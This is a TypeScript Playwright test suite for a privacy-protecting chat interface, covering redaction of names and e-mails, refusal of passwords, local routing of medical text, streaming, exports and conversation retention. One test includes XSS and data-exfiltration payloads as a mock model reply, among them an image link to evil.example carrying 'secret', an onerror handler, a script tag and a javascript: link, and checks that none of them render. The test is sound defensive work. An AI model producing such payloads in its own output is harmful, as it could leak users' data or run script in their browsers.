import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { after, before, describe, it } from 'node:test';
import { type FakeVendor, startFakeVendor } from '@bailiwick/fakes/vendor';
import type { Browser, Page } from 'playwright-core';
import { NARROW, looksRight, openBrowser, visitor } from '../browser.ts';
import { claimed, joined } from '../household.ts';
import { type TestDoor, openDoor, usualConfiguration } from '../test-door.ts';

describe('the safe chat', () => {
  let browser: Browser;
  let vendor: FakeVendor;
  let home: FakeVendor;
  let door: TestDoor;
  before(async () => {
    browser = await openBrowser();
    vendor = await startFakeVendor({ models: ['fake-large'] });
    home = await startFakeVendor({ models: ['llama-3'] });
    door = await openDoor(usualConfiguration(vendor, home));
  });
  after(async () => {
    await browser.close();
    await door.close();
    await Promise.all([vendor.close(), home.close()]);
  });

  const opened = async (): Promise<{ page: Page; faults: readonly string[] }> => {
    vendor.reset();
    home.reset();
    const { page, faults } = await visitor(browser);
    await page.goto(`${door.url}/chat`);
    await page.getByLabel('Your message').waitFor();
    return { page, faults };
  };
  const said = async (page: Page, text: string): Promise<void> => {
    await page.getByLabel('Your message').fill(text);
    await page.getByLabel('Your message').press('Enter');
  };
  const answer = (page: Page) =>
    page
      .getByRole('log')
      .getByRole('region', { name: /fake-large|llama/ })
      .last();
  const sent = (): string => vendor.requests.map(({ body }) => body.toString()).join('\n');

  it('goes on after a refusal, without what was held back', async () => {
    const { page, faults } = await opened();
    await page
      .getByLabel('Your message')
      .fill('My password=hunter2-Marzipan-77, tell j.lindqvist@example.org.');
    // What blocks is named, and nothing else that was found.
    await page.getByText('Will not be sent because of password.').waitFor();
    await page.getByLabel('Your message').press('Enter');
    const log = page.getByRole('log');
    await log.getByText('This was not sent').waitFor();
    await log.getByText('our rule is that it does not leave').waitFor();
    await log.getByText('what you write next goes without it').waitFor();
    assert.equal(await log.getByRole('button', { name: 'Copy' }).count(), 0, 'there is nothing to copy');
    await log.getByRole('button', { name: 'Edit and take it out' }).waitFor();
    assert.equal(await log.getByRole('button', { name: /at home$/ }).count(), 0, 'home refuses it, too');
    await looksRight(page, 'chat-goes-on');
    await said(page, 'What is the capital of Latvia?');
    await answer(page).getByText('What is the capital of Latvia?').waitFor();
    assert.doesNotMatch(sent(), /hunter2|password/);
    assert.deepEqual(faults, []);
  });

  it('marks while one writes, says what will happen, and brings the values back in the answer', async () => {
    const { page, faults } = await opened();
    await page.getByLabel('Your message').fill('Write to Jonas Lindqvist, j.lindqvist@example.org, please.');
    await page.getByText('Will be replaced before it leaves: name, e-mail address.').waitFor();
    await looksRight(page, 'chat-writing');
    await page.getByRole('button', { name: 'Send' }).click();
    await answer(page).getByText('j.lindqvist@example.org').waitFor();
    assert.match(sent(), /\[EMAIL_/);
    assert.doesNotMatch(sent(), /lindqvist/i);
    // What a switch shows is what left, name by name.
    await page.getByLabel('Show what the vendor sees').check();
    const token = /\[EMAIL_\w+\]/.exec(sent())?.[0] ?? 'none';
    await page.getByRole('region', { name: 'You' }).getByText(token).waitFor();
    await looksRight(page, 'chat-vendor-view');
    assert.deepEqual(faults, []);
  });

  it('says why a message was not sent and offers the model at home, which gets it', async () => {
    const { page } = await opened();
    await said(page, 'Her diagnosis is type 2 diabetes; write to the patient, Mrs Okonkwo.');
    const log = page.getByRole('log');
    await log
      .getByRole('region', { name: /at-home|fake-large/ })
      .last()
      .waitFor();
    await log.getByText('Stays home').waitFor();
    assert.equal(sent(), '');
    assert.match(home.requests.map(({ body }) => body.toString()).join(), /diabetes/);
    await said(page, 'The password is hunter2-Marzipan-77, keep it: password=hunter2-Marzipan-77');
    await log.getByText('This was not sent').waitFor();
    await looksRight(page, 'chat-refused');
    await page.getByRole('button', { name: 'Edit and take it out' }).click();
    await log.getByLabel('Your message').fill('Forget the password.');
    await page.getByRole('button', { name: 'Send as a new branch' }).click();
    await log.getByText('2 of 2').waitFor();
    assert.doesNotMatch(sent(), /hunter2/);
  });

  it('streams, and stops when told to, and keeps what came', async () => {
    const { page } = await opened();
    vendor.script({ reply: 'word '.repeat(4_000), delayMs: 20 });
    await said(page, 'Tell me a long story.');
    await answer(page).getByText('word word word').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('You stopped this answer.').waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
  });

  it('says that the connection broke off, and keeps what came', async () => {
    const { page } = await opened();
    vendor.script({
      reply: 'The beginning of an answer. '.repeat(20),
      fault: { kind: 'die', at: 'mid-stream' },
    });
    await said(page, 'Go on.');
    await page
      .getByText(/broke off|was not sent|The vendor/)
      .first()
      .waitFor();
    await page.getByText('The beginning of an answer.').first().waitFor();
  });

  it('shows Markdown, and nothing of it loads, runs or opens by itself', async () => {
    const { page, faults } = await opened();
    vendor.script({
      reply:
        '# Heading\n\n| a | b |\n| - | - |\n| 1 | 2 |\n\n```js\nconst x = 1;\n```\n\n' +
        '![leak](https://evil.example/?q=secret) <img src=x onerror=alert(1)> <script>alert(2)</script>\n\n' +
        '[read more](https://evil.example/?q=secret) [run](javascript:alert(3))',
    });
    await said(page, 'Show me.');
    await answer(page).getByRole('table').waitFor();
    assert.equal(await answer(page).locator('img, script, a').count(), 0);
    await page.getByRole('button', { name: /read more/ }).click();
    await page.getByRole('dialog').getByText('https://evil.example/?q=secret').waitFor();
    await page.keyboard.press('Escape');
    await looksRight(page, 'chat-markdown');
    assert.deepEqual(faults, []);
  });

  it('reads a file that was dropped, and sends it without the values', async () => {
    const { page } = await opened();
    await page.locator('input[type=file]').setInputFiles({
      name: 'letter.txt',
      mimeType: 'text/plain',
      buffer: Buffer.from('Dear Jonas Lindqvist, call +49 30 901820.'),
    });
    await page.getByText('letter.txt').waitFor();
    await said(page, 'Summarise the letter.');
    await answer(page).waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
    assert.doesNotMatch(sent(), /Lindqvist|901820/);
  });

  it('saves a copy in Markdown and JSON, with the names restored and, on demand, those that the vendor saw', async () => {
    const { page, faults } = await opened();
    await said(page, 'Write to Jonas Lindqvist, j.lindqvist@example.org, please.');
    await answer(page).getByText('j.lindqvist@example.org').waitFor();
    await page.getByRole('button', { name: 'Send' }).waitFor();
    const dialog = page.getByRole('dialog');
    const saved = async (): Promise<{ readonly name: string; readonly text: string }> => {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        dialog.getByRole('button', { name: 'Save', exact: true }).click(),
      ]);
      return { name: download.suggestedFilename(), text: await readFile(await download.path(), 'utf8') };
    };
    await page.getByRole('button', { name: 'Save a copy' }).click();
    await looksRight(page, 'chat-save-copy');
    const plain = await saved();
    assert.match(plain.name, /^Write-to-Jonas-Lindqvist.*\.md$/);
    assert.match(plain.text, /## You\n\nWrite to Jonas Lindqvist, j\.lindqvist@example\.org, please\./);
    assert.doesNotMatch(plain.text, /EMAIL_/);
    await page.getByRole('button', { name: 'Save a copy' }).click();
    await dialog.getByLabel('Also write what the vendor saw').check();
    await dialog.getByLabel('As').selectOption('json');
    const whole = JSON.parse((await saved()).text) as {
      messages: { vendorSaw: { view: string; names: { value: string; pseudonym: string }[] } }[];
    };
    const [asked] = whole.messages;
    const email = asked?.vendorSaw.names.find(({ value }) => value === 'j.lindqvist@example.org');
    assert.ok(sent().includes(email?.pseudonym ?? 'nothing'));
    assert.doesNotMatch(asked?.vendorSaw.view ?? '', /lindqvist/i);
    assert.deepEqual(faults, []);
  });

  it('works with the keyboard alone, on a phone', async () => {
    const { page } = await visitor(browser, { viewport: NARROW });
    await page.goto(`${door.url}/chat`);
    await page.getByLabel('Your message').focus();
    await page.keyboard.type('Hello there');
    await page.keyboard.press('Enter');
    await page.getByRole('log').getByText('Hello there').first().waitFor();
  });

  it('keeps conversations where the firm does, for their owner alone: found, renamed, opened again, deleted', async () => {
    const keeping = await openDoor(
      usualConfiguration(vendor, home, 'retention: { conversations: { keep: on, days: 30 } }\n'),
    );
    try {
      const owner = await claimed(keeping);
      const { page, context, faults } = await visitor(browser);
      const [name = '', value = ''] = owner.cookie().split('=');
      await context.addCookies([{ name, value, url: keeping.url }]);
      await page.goto(`${keeping.url}/chat`);
      await page.getByText('Kept for 30 days').waitFor();
      await said(page, 'Remind j.lindqvist@example.org of the walnut order.');
      const list = page.getByRole('navigation', { name: 'Conversations' });
      await list.getByRole('button', { name: /^Remind j\.lindqvist/ }).waitFor();
      await looksRight(page, 'chat-kept');
      assert.doesNotMatch(await keeping.files(), /walnut/, 'nothing rests unsealed');

      await page.reload();
      await list.getByRole('button', { name: /^Remind j\.lindqvist/ }).click();
      await page.getByRole('log').getByText('walnut order').first().waitFor();
      await page.getByLabel('Search conversations').fill('walnut');
      await list.getByRole('button', { name: /^Remind j\.lindqvist/ }).waitFor();
      await page.getByLabel('Search conversations').fill('pecan');
      await list.getByRole('button', { name: /^Remind j\.lindqvist/ }).waitFor({ state: 'detached' });
      await page.getByLabel('Search conversations').fill('');

      // Another person, whatever their role, finds nothing of it.
      const other = await joined(keeping, owner, 'Dora', 'owner');
      assert.deepEqual((await other.client.chat.conversations()).conversations, []);
      const [head] = (await owner.client.chat.conversations()).conversations;
      await assert.rejects(other.client.chat.read({ id: head?.id ?? '' }), { code: 'not_found' });

      await list.getByRole('button', { name: /^Rename, copy or delete/ }).click();
      const dialog = page.getByRole('dialog');
      await dialog.getByLabel('Title').fill('Nuts');
      await looksRight(page, 'chat-manage');
      await dialog.getByRole('button', { name: 'Save', exact: true }).click();
      await list.getByRole('button', { name: 'Nuts', exact: true }).waitFor();
      // A copy, also of one that this page has not opened.
      await page.reload();
      await list.getByRole('button', { name: /^Rename, copy or delete/ }).click();
      await dialog.getByRole('button', { name: 'Save a copy …' }).click();
      const [copy] = await Promise.all([
        page.waitForEvent('download'),
        dialog.getByRole('button', { name: 'Save', exact: true }).click(),
      ]);
      assert.match(await readFile(await copy.path(), 'utf8'), /walnut order/);
      await list.getByRole('button', { name: /^Rename, copy or delete/ }).click();
      await dialog.getByRole('button', { name: 'Delete' }).click();
      await dialog.getByLabel('Type delete to confirm').fill('delete');
      await dialog.getByRole('button', { name: 'Delete' }).click();
      await page.getByText('The conversation was deleted.').waitFor();
      assert.deepEqual((await owner.client.chat.conversations()).conversations, []);
      assert.deepEqual(faults, []);
    } finally {
      await keeping.close();
    }
  });
});
